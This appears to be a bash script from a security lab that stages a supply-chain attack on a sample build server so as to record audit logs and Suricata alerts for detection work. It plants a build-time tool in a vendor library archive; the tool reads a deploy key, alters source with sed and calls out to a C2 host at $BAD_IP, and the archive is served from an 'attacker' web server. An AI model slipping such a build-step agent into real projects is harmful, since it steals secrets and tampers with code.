#!/bin/bash
# Records the sample build-server. Run as root on a machine of your own; results in /opt/lab/out/build-server.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
NOISE_USERS="bob:analyst emi:writer"
lab_begin "$here" ci-6 10.20.0.35 ""

# What alice builds: 48 small files of C and a vendor's library, whose archive has an unwanted tool in it.
install -d /home/alice/app
python3 "$RUN/project.py" /home/alice/app
printf 'deploy-key-of-the-laboratory\n' > /home/alice/app/deploy.key
chown -R alice:alice /home/alice/app
install -d -o $OUT_UID "$RUN/attacker" "$RUN/libfoo-2.1/tools"
lab_agent 443 who="id -un" read="cat deploy.key" \
  plant="sed -i s/FOO_BUILD/FOO_BUILD_X/ libfoo-2.1/foo.c" > "$RUN/libfoo-2.1/tools/stamp.py"
cp "$RUN/foo.c" "$RUN/libfoo-2.1/"
tar czf "$RUN/attacker/libfoo-2.1.tar.gz" -C "$RUN" --owner=0 --group=0 libfoo-2.1
rm -r "$RUN/libfoo-2.1"
lab_outside python3 "$RUN/c2.py" $BAD_IP 443 "$RUN/seen.json" 2900909 "LAB SUPPLY CHAIN build step calls out" who read plant
lab_outside python3 -m http.server --bind $WEB_IP --directory "$RUN/attacker" 8080

lab_audit_on RAW 500 1
lab_noise_on 4
sleep 6
lab_login alice "cd app && for n in 1 2 3; do make -s clean; make -s -j4 VENDOR=http://$WEB_IP:8080; ./app; sleep 4; done"
sleep 4
lab_noise_off
lab_audit_off
python3 "$RUN/sensor.py" suricata "$(ls -tr "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
